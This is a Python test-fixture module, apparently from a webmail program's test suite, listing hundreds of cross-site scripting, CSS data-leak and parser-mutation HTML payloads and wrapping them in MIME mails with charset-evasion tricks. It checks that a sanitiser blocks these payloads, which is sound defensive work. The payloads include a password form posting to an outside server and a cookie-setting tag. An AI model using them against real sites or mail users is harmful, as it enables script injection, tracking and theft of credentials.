"""HTML that wants to do something when it is shown: one attack per entry, made for these tests.

`attacks(evil)` fills them in: %J becomes a call `hit(7)` with the number of the attack, %E an address on another server that names it.
A browser without protection runs many of them (tests.end_to_end.test_html_attacks counts), others are for browsers and mail programs of
the past, or for those that a careless cleaner makes dangerous only by cleaning.
"""

from __future__ import annotations

from base64 import b64encode

TAGS = r"""
<script>%J</script>
<SCRIPT>%J</SCRIPT>
<script >%J</script >
<script/x>%J</script>
<script
>%J</script
>
<script type=module>%J</script>
<script src=%E></script>
<script src="%E" defer></script>
<script src="data:text/javascript,%J"></script>
<script>/*</script><script>*/%J</script>
<<script>%J//<</script>
<scr<script>ipt>%J</scr</script>ipt>
<script>%J
<sc&#x72;ipt>%J</sc&#x72;ipt>
<script xmlns="http://www.w3.org/1999/xhtml">%J</script>
<x:script xmlns:x="http://www.w3.org/1999/xhtml">%J</x:script>
<iframe src="javascript:parent.%J"></iframe>
<iframe src="data:text/html,<script>parent.%J</script>"></iframe>
<iframe srcdoc="<script>parent.%J</script>"></iframe>
<iframe srcdoc="&lt;script&gt;parent.%J&lt;/script&gt;"></iframe>
<iframe srcdoc="<img src=x onerror=parent.%J>" sandbox="allow-scripts allow-same-origin"></iframe>
<iframe src="%E"></iframe>
<iframe onload=%J></iframe>
<frameset onload=%J><frame src="%E"></frameset>
<object data="javascript:%J"></object>
<object data="data:text/html,<script>parent.%J</script>"></object>
<object data="%E" type="text/html"></object>
<object data="%E" onerror=%J></object>
<object classid="clsid:00000000-0000-0000-0000-000000000000"><param name=src value="javascript:%J"></object>
<embed src="data:text/html,<script>parent.%J</script>" type="text/html">
<embed src="%E">
<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='%J'/>">
<applet code="%E" archive="%E"></applet>
<portal src="%E" onload=%J></portal>
<fencedframe src="%E"></fencedframe>
<base href="%E/"><img src="rel.png">
<base href="javascript:%J//"><a href="/x">x</a>
<link rel=stylesheet href="%E">
<link rel=stylesheet href="data:text/css,@import '%E'">
<link rel=prefetch href="%E">
<link rel=preload as=image href="%E">
<link rel=modulepreload href="%E">
<link rel=preconnect href="%E"><link rel=dns-prefetch href="%E">
<link rel=icon href="%E">
<link rel=manifest href="%E">
<link rel=import href="%E">
<link rel=stylesheet href="%E" onerror=%J>
<meta http-equiv=refresh content="0;url=%E">
<meta http-equiv="refresh" content="0; url=javascript:%J">
<meta http-equiv="refresh" content="0;url=data:text/html,<script>%J</script>">
<META HTTP-EQUIV="Set-Cookie" CONTENT="postvak_session=stolen">
<meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline'"><script>%J</script>
<meta charset="utf-7">+ADw-script+AD4-%J+ADw-/script+AD4-
<meta name=referrer content=unsafe-url><img src="%E">
<form action="%E"><input name=password autofocus><button>Go</button></form>
<form action="javascript:%J"><input type=submit autofocus onfocus=%J></form>
<form id=f></form><button form=f formaction="javascript:%J">x</button>
<input type=image src="%E" onerror=%J>
<input autofocus onfocus=%J>
<select autofocus onfocus=%J></select>
<textarea autofocus onfocus=%J></textarea>
<keygen autofocus onfocus=%J>
<isindex type=image src=1 onerror=%J>
<video src="%E" onerror=%J></video>
<video poster="%E"></video>
<video><source src="%E" onerror=%J></video>
<audio src="%E" autoplay onerror=%J></audio>
<audio><track src="%E" kind=captions default></audio>
<picture><source srcset="%E"><img src=x></picture>
<bgsound src="%E">
<body background="%E">
<body onload=%J>
<body onpageshow=%J>
<html onmousemove=%J><body>
<marquee onstart=%J>x</marquee>
<marquee loop=1 width=0 onfinish=%J>x</marquee>
<details open ontoggle=%J><summary>x</summary></details>
<dialog open onclose=%J>x</dialog>
<layer src="%E"></layer>
<ilayer src="%E"></ilayer>
<noembed><img title="</noembed><img src=x onerror=%J>"></noembed>
<plaintext><script>%J</script>
<xmp><img title="</xmp><img src=x onerror=%J>"></xmp>
<listing>&lt;img src=x onerror=%J&gt;</listing>
<slot onslotchange=%J><p>x</p></slot>
<template><script>%J</script></template>
<div><template shadowrootmode=open><img src=x onerror=%J></template></div>
<custom-tag onfocus=%J tabindex=1 autofocus>x</custom-tag>
<a id=x tabindex=1 autofocus onfocus=%J>x</a>
"""

ATTRIBUTES = r"""
<img src=x onerror=%J>
<img src=x onerror="%J">
<img src=x onerror='%J'>
<img src=x onerror=`%J`>
<img/src=x/onerror=%J>
<img src=x oNeRrOr=%J>
<img src=x onerror&#61;%J>
<img src=x onerror =%J>
<img src=x onerror=&#104;it&#40;%N&#41;>
<img src=x onerror="&#x68;it(%N)">
<img src=x onerror="\u0068it(%N)">
<img src=x onerror=eval(atob('%B'))>
<img src="x` onerror=%J `">
<img src="x" title="`"onerror=%J`">
<img src='x' alt='"><img src=x onerror=%J>'>
<img src=x:x onerror=%J//
<img src="%E" onload=%J>
<img src=" %E">
<img src="http:%F">
<img srcset="%E 1x, %E 2x">
<img src="data:image/svg+xml;base64,%S">
<img src="data:text/html,<script>%J</script>">
<img lowsrc="%E" dynsrc="%E">
<img src="javascript:%J">
<img usemap="#m" src=x><map name=m><area href="javascript:%J" shape=default></map>
<table background="%E"><tr><td>x</td></tr></table>
<td background="javascript:%J">x</td>
<a href="javascript:%J">x</a>
<a href="JaVaScRiPt:%J">x</a>
<a href=" javascript:%J">x</a>
<a href="java&#10;script:%J">x</a>
<a href="java&Tab;script:%J">x</a>
<a href="java&NewLine;script&colon;%J">x</a>
<a href="&#106;avascript:%J">x</a>
<a href="&#x6A&#x61&#x76&#x61script:%J">x</a>
<a href="&#0000106avascript:%J">x</a>
<a href="&#1;javascript:%J">x</a>
<a href="javascript&#58;%J">x</a>
<a href="javascript://%0a%J">x</a>
<a href="vbscript:%J">x</a>
<a href="livescript:%J">x</a>
<a href="data:text/html,<script>%J</script>">x</a>
<a href="blob:null/%J">x</a>
<a href="view-source:%E">x</a>
<a href="filesystem:%E">x</a>
<a href="file:///etc/passwd">x</a>
<a href="/logout/" ping="%E">x</a>
<a href="x" target="_top" onclick=%J>x</a>
<a href="//evil&#64;x" download>x</a>
<a href=x style="animation-name:x" onanimationstart=%J>x</a>
<p style=animation:rotation onanimationstart=%J>x</p>
<p contenteditable autofocus onfocus=%J>x</p>
<p tabindex=0 onfocusin=%J autofocus>x</p>
<p popover id=q onbeforetoggle=%J>x</p>
<button popovertarget=q onclick=%J>x</button>
<p onpointerover=%J onwheel=%J onscroll=%J>x</p>
<p data-hx-get="%E" hx-get="%E" hx-trigger="load">x</p>
<p hx-on::load="%J" hx-get="/logout/">x</p>
<p class="dialog modal" id="keys" name="csrfmiddlewaretoken" form="f">x</p>
<blockquote cite="%E" onmouseover=%J>x</blockquote>
<p lang='"><script>%J</script>'>x</p>
<p dir="&quot;&gt;&lt;script&gt;%J&lt;/script&gt;">x</p>
<font color="expression(%J)" face="x;background:url(%E)">x</font>
<p title="--&gt;&lt;/style&gt;&lt;/title&gt;&lt;script&gt;%J&lt;/script&gt;">x</p>
"""

STYLES = r"""
<style>@import '%E';</style>
<style>@import url(%E);</style>
<style>body{background:url(%E)}</style>
<style>@font-face{font-family:x;src:url(%E)}p{font-family:x}</style><p>x</p>
<style>p{list-style-image:url(%E);display:list-item}</style><p>x</p>
<style>p::before{content:url(%E)}</style><p>x</p>
<style>p{cursor:url(%E),auto}</style><p>x</p>
<style>input[value^=a]{background:url(%E)}</style><input value=abc>
<style>@keyframes x{}p{animation:x}</style><p onanimationend=%J>x</p>
<style><!--</style><script>%J</script>--></style>
<style></style ><script>%J</script>
<style>*{x:expression(%J)}</style>
<style>body{-moz-binding:url(%E)}</style>
<style>body{behavior:url(%E)}</style>
<p style="background:url(%E)">x</p>
<p style="background:u\72l(%E)">x</p>
<p style="background:&#117;rl(%E)">x</p>
<p style="background:/**/url(%E)">x</p>
<p style="background-image:image-set('%E' 1x)">x</p>
<p style="background-image:-webkit-image-set(url(%E) 1x)">x</p>
<p style="background-image:cross-fade(url(%E),url(%E))">x</p>
<p style="border-image:url(%E) 1 stretch;border:1px solid">x</p>
<p style="list-style:url(%E) inside;display:list-item">x</p>
<p style="mask:url(%E);-webkit-mask:url(%E)">x</p>
<p style="filter:url(%E#x)">x</p>
<p style="clip-path:url(%E#x)">x</p>
<p style="shape-outside:url(%E);float:left">x</p>
<p style="content:url(%E)">x</p>
<p style="--x:url(%E);background:var(--x)">x</p>
<p style="background:attr(title url)" title="%E">x</p>
<p style='x:"};*{background:url(%E)}'>x</p>
<p style="width:expression(%J)">x</p>
<p style="x:e/**/xpression(%J)">x</p>
<p style="x:\65 xpression(%J)">x</p>
<p style="behavior:url(#default#time2)" onbegin=%J>x</p>
<p style="-moz-binding:url(%E#x)">x</p>
<p style="position:fixed;inset:0;z-index:2147483647;background:red">covers everything</p>
<p style="position:absolute;left:-9999px;top:-9999px;width:99999px;height:99999px">far out</p>
<p style="margin:-5000px;transform:scale(50)">large</p>
<p style="width:100000px;white-space:pre">wide</p>
<div style="display:flex;min-width:50000px"><b>wide</b></div>
"""

SVG_AND_MATH = r"""
<svg onload=%J>
<svg/onload=%J>
<svg><script>%J</script></svg>
<svg><script href="data:,%J" /></svg>
<svg><script xlink:href="%E"></script></svg>
<svg><style>@import '%E';</style></svg>
<svg><a href="javascript:%J"><text x=20 y=20>x</text></a></svg>
<svg><a><animate attributeName=href values=javascript:%J /><text x=20 y=20>x</text></a></svg>
<svg><animate onbegin=%J attributeName=x dur=1s>
<svg><set onbegin=%J attributeName=x to=1>
<svg><animateMotion onbegin=%J dur=1s />
<svg><image href="%E" onload=%J /></svg>
<svg><use href="%E#x" /></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>%J</script></svg>#x"></use></svg>
<svg><foreignObject><iframe src="javascript:parent.%J"></iframe></foreignObject></svg>
<svg><foreignObject><img src=x onerror=%J></foreignObject></svg>
<svg><filter><feImage href="%E" /></filter></svg>
<svg><handler type="text/javascript">%J</handler></svg>
<svg><title><img src=x onerror=%J></title></svg>
<svg><desc><style><img src=x onerror=%J></style></desc></svg>
<svg xmlns:xlink=x><a xlink:href="javascript:%J"><circle r=9 /></a></svg>
<svg></p><style><a id="</style><img src=x onerror=%J>">
<svg><style><img src=x onerror=%J></style></svg>
<math><maction actiontype=statusline xlink:href="javascript:%J">x</maction></math>
<math href="javascript:%J">x</math>
<math><mi xlink:href="data:text/html,<script>%J</script>">x</mi></math>
<math><annotation-xml encoding="text/html"><img src=x onerror=%J></annotation-xml></math>
<math><mtext><script>%J</script></mtext></math>
<math><mtext><img src=x onerror=%J></mtext></math>
<math><style><img src=x onerror=%J></style></math>
"""

MUTATIONS = r"""
<noscript><p title="</noscript><img src=x onerror=%J>">
<noscript><img title="--></noscript><img src=x onerror=%J>">
<p id="</p><img src=x onerror=%J>">x</p>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=%J&gt;">
<math><mtext><table><mglyph><style><math href="</style><img src=x onerror=%J>">
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=%J>
<svg></p><style><g title="</style><img src=x onerror=%J>">
<svg><p><style><g title="</style><img src=x onerror=%J>"></p></svg>
<svg><desc><p><style></desc><g title="</style><img src=x onerror=%J>">
<math><annotation-xml><style><img title="</style><img src=x onerror=%J>"></style>
<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=%J>">
<select><iframe><select><img src=x onerror=%J></select></iframe></select>
<table><td><svg><desc><td></desc></svg><style><a title="</style><img src=x onerror=%J>">
<a><table><a><img src=x onerror=%J></table>
<table><tr><script>%J</script></tr></table>
<table><caption><svg><title></caption><style><img src=x onerror=%J></style>
<p><b><p><script>%J</script></b>
<title><p title="</title><img src=x onerror=%J>">
<textarea><p title="</textarea><img src=x onerror=%J>">
<iframe><p title="</iframe><img src=x onerror=%J>">
<noframes><p title="</noframes><img src=x onerror=%J>">
<template><p title="</template><img src=x onerror=%J>">
<xmp><p title="</xmp><img src=x onerror=%J>">
<style><p title="</style><img src=x onerror=%J>">
<script><p title="</script><img src=x onerror=%J>">
<!--><img src=x onerror=%J>-->
<!---><img src=x onerror=%J>-->
<!--x--!><img src=x onerror=%J>-->
<!-- --!> <img src=x onerror=%J> -->
<![CDATA[><img src=x onerror=%J>]]>
<svg><![CDATA[><img src=x onerror=%J>]]></svg>
<?xml version="1.0"?><img src=x onerror=%J>
<?import namespace="t" implementation="#default#time2"><t:set onbegin=%J>
<!doctype html [<!ENTITY x "<script>%J</script>">]>&x;
<!--[if gte mso 9]><script>%J</script><![endif]-->
<!--[if !mso]><!--><img src=x onerror=%J><!--<![endif]-->
<![if true]><img src=x onerror=%J><![endif]>
</main></body></html><script>%J</script>
</details></div></main><img src=x onerror=%J>
"></iframe><img src=x onerror=%J>
&lt;script&gt;%J&lt;/script&gt;
&amp;lt;script&amp;gt;%J&amp;lt;/script&amp;gt;
%3Cscript%3E%J%3C/script%3E
{{constructor.constructor('%J')()}} ${%J} <%= %J %>
<p>quoted</p><blockquote type=cite><img src=x onerror=%J></blockquote>
<div class=gmail_quote>On Saturday Bob wrote:<blockquote><script>%J</script></blockquote></div>
<div>-- <br><svg onload=%J></div>
"""

RAW_SIGNS = {
    "NUL within a tag": "<scr\0ipt>%J</scr\0ipt>",
    "NUL within an event": "<img src=x on\0error=%J>",
    "NUL within a scheme": '<a href="java\0script:%J">x</a>',
    "form feed between attributes": "<img\x0csrc=x\x0conerror=%J>",
    "vertical tab before a scheme": '<a href="\x0bjavascript:%J">x</a>',
    "control before a scheme": '<a href="\x01javascript:%J">x</a>',
    "DEL in a scheme": '<a href="java\x7fscript:%J">x</a>',
    "line separator in a scheme": '<a href="java\u2028script:%J">x</a>',
    "no-break space before a scheme": '<a href="\xa0javascript:%J">x</a>',
    "byte order mark before a scheme": '<a href="\ufeffjavascript:%J">x</a>',
    "full-width letters": "\uff1cscript\uff1e%J\uff1c/script\uff1e",
    "long s": "<\u017fcript>%J</\u017fcript>",
    "Kelvin sign": "<lin\u212a rel=stylesheet href=%E>",
    "dotless i": "<scr\u0131pt>%J</scr\u0131pt>",
    "turned direction": "\u202e<img src=x onerror=%J>\u202c",
    "lone surrogate": "<img src=x title=\ud83d onerror=%J>",
    "carriage returns": "<img\rsrc=x\ronerror=%J>",
    "without an end": "<img src=x onerror=%J ",
    "quotes without an end": '<img src="x onerror=%J><img src=x onerror=%J>',
    "very deep": "<b>" * 390 + "<img src=x onerror=%J>",
    "too deep": "<div>" * 2000 + "<img src=x onerror=%J>",
    "many attributes": "<img " + " ".join(f"a{n}=1" for n in range(2000)) + " src=x onerror=%J>",
}


def written() -> dict[str, str]:
    """name -> HTML with placeholders."""
    groups = {"tag": TAGS, "attribute": ATTRIBUTES, "style": STYLES, "svg": SVG_AND_MATH, "mutation": MUTATIONS}
    found = {
        f"{group} {number}": html
        for group, text in groups.items()
        for number, html in enumerate(entries(text), start=1)
    }
    return found | RAW_SIGNS


def entries(text: str) -> list[str]:
    """A line each; one that doesn't begin like HTML goes on with the one before."""
    found: list[str] = []
    for line in text.strip("\n").split("\n"):
        if line[:1] in ">" and found:
            found[-1] += f"\n{line}"
        else:
            found.append(line)
    return found


def attacks(evil: str) -> dict[str, str]:
    """name -> HTML. `evil`: address of a server that nobody may be led to, without a slash at its end."""
    return {name: filled(html, number, evil) for number, (name, html) in enumerate(written().items())}


def filled(html: str, number: int, evil: str) -> str:
    call = f"hit({number})"
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{call}"/>'
    words = {"%J": call, "%E": f"{evil}/{number}", "%F": f"{evil}/{number}".removeprefix("http:"), "%N": str(number)}
    words |= {"%B": b64encode(call.encode()).decode(), "%S": b64encode(svg.encode()).decode()}
    for sign, word in words.items():
        html = html.replace(sign, word)
    return html


def mails(evil: str) -> dict[str, bytes]:
    """name -> a mail: each attack as UTF-8, and some in charsets that hide their signs from those who look at bytes."""
    found = {name: mail(html.encode("utf-8", "replace")) for name, html in attacks(evil).items()}
    plain = filled("<img src=x onerror=%J><script>%J</script>", len(found), evil)
    shifted = plain.replace("<", "+ADw-").replace(">", "+AD4-").encode()
    return found | {
        "UTF-7": mail(shifted, "utf-7"),
        "UTF-7 that calls itself ASCII": mail(shifted, "us-ascii"),
        "UTF-16 with a mark": mail(plain.encode("utf-16"), "utf-16"),
        "UTF-16 without a mark": mail(plain.encode("utf-16-le"), "utf-16le"),
        "UTF-16 that calls itself UTF-8": mail(plain.encode("utf-16"), "utf-8"),
        "UTF-32": mail(plain.encode("utf-32"), "utf-32"),
        "ISO-2022-JP escapes": mail(plain.replace("<", "\x1b(J<").encode(), "iso-2022-jp"),
        "ISO-2022-JP across an attribute": mail(b'<img alt="\x1b$B" src=x onerror="\x1b(B" title=' + plain.encode(), "iso-2022-jp"),
        "Shift-JIS that swallows a quote": mail(b'<img alt="\x82"><p title=" src=x onerror=hit(0) ">' + plain.encode(), "shift_jis"),
        "GBK that swallows a quote": mail(b'<a title="\xbf" onmouseover=hit(0) ">' + plain.encode(), "gbk"),
        "Big5 that swallows a quote": mail(b'<a title="\xa1" onmouseover=hit(0) ">' + plain.encode(), "big5"),
        "HZ": mail(b"~{<img src=x~}" + plain.encode(), "hz-gb-2312"),
        "overlong UTF-8": mail(b"\xc0\xbcscript\xc0\xbehit(0)\xc0\xbc/script\xc0\xbe" + plain.encode()),
        "unknown charset": mail(plain.encode(), 'x"><script>hit(0)</script>'),
        "EBCDIC": mail(plain.encode("cp500"), "cp500"),
        "quoted-printable": mail(plain.encode().replace(b"=", b"=3D").replace(b"<", b"=3C"), encoding="quoted-printable"),
        "base64 with rubbish": mail(b64encode(plain.encode()) + b"****", encoding="base64"),
        "XHTML": mail(f'<html xmlns="http://www.w3.org/1999/xhtml">{plain}</html>'.encode(), kind="application/xhtml+xml"),
        "plain text": mail(plain.encode(), kind="text/plain"),
        "enriched text": mail(plain.encode(), kind="text/enriched"),
    }  # fmt: skip


def mail(body: bytes, charset: str = "utf-8", *, kind: str = "text/html", encoding: str = "8bit") -> bytes:
    head = f'Content-Type: {kind}; charset="{charset}"\r\nContent-Transfer-Encoding: {encoding}\r\n\r\n'
    return b"MIME-Version: 1.0\r\n" + head.encode() + body.replace(b"\n", b"\r\n")
